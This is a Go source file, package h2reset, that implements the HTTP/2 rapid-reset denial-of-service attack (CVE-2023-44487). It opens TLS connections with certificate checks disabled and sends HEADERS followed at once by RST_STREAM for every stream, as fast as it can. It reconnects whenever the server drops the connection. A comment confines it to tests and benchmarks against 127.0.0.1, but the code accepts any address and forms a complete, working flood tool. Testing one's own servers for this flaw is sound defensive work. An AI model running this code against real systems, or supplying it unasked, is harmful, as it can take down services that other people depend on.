// Package h2reset makes the HTTP/2 rapid-reset attack (CVE-2023-44487):
// it opens streams over TLS and resets each at once, RST_STREAM right
// after HEADERS, as fast as it can. It is for the tests and the bench,
// which only ever aim it at 127.0.0.1.
package h2reset

import (
	"bufio"
	"bytes"
	"context"
	"crypto/tls"
	"net"
	"sync"
	"sync/atomic"
	"time"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

// Counts are what an attack did so far.
type Counts struct {
	Streams atomic.Int64 // streams opened and reset
	Conns   atomic.Int64 // connections opened
}

// Attack resets streams of path on addr over one connection at a time,
// opening another when the server closes one, until ctx ends.
func Attack(ctx context.Context, addr, path string, c *Counts) {
	for ctx.Err() == nil {
		d := tls.Dialer{Config: &tls.Config{InsecureSkipVerify: true, NextProtos: []string{"h2"}}}
		conn, err := d.DialContext(ctx, "tcp", addr)
		if err != nil {
			select {
			case <-ctx.Done():
			case <-time.After(10 * time.Millisecond):
			}
			continue
		}
		c.Conns.Add(1)
		stop := context.AfterFunc(ctx, func() { conn.Close() })
		resetOn(conn, addr, path, c)
		stop()
		conn.Close()
	}
}

// resetOn opens and resets streams on conn until it fails.
func resetOn(conn net.Conn, addr, path string, c *Counts) {
	var mu sync.Mutex // the framer's writes
	bw := bufio.NewWriterSize(conn, 64<<10)
	fr := http2.NewFramer(bw, conn)
	if _, err := bw.WriteString(http2.ClientPreface); err != nil {
		return
	}
	if fr.WriteSettings() != nil || bw.Flush() != nil {
		return
	}
	done := make(chan struct{})
	defer func() { conn.Close(); <-done }()
	go func() { // answers the server's settings and pings, drops the rest
		defer close(done)
		for {
			f, err := fr.ReadFrame()
			if err != nil {
				conn.Close()
				return
			}
			mu.Lock()
			switch f := f.(type) {
			case *http2.SettingsFrame:
				if !f.IsAck() {
					fr.WriteSettingsAck()
					bw.Flush()
				}
			case *http2.PingFrame:
				if !f.IsAck() {
					fr.WritePing(true, f.Data)
					bw.Flush()
				}
			}
			mu.Unlock()
		}
	}()
	var block bytes.Buffer
	enc := hpack.NewEncoder(&block)
	for id := uint32(1); id < 1<<31; id += 2 {
		block.Reset()
		enc.WriteField(hpack.HeaderField{Name: ":method", Value: "GET"})
		enc.WriteField(hpack.HeaderField{Name: ":scheme", Value: "https"})
		enc.WriteField(hpack.HeaderField{Name: ":authority", Value: addr})
		enc.WriteField(hpack.HeaderField{Name: ":path", Value: path})
		mu.Lock()
		err := fr.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: block.Bytes(), EndStream: true, EndHeaders: true})
		if err == nil {
			err = fr.WriteRSTStream(id, http2.ErrCodeCancel)
		}
		if err == nil && id%64 == 63 {
			err = bw.Flush()
		}
		mu.Unlock()
		if err != nil {
			return
		}
		c.Streams.Add(1)
	}
}
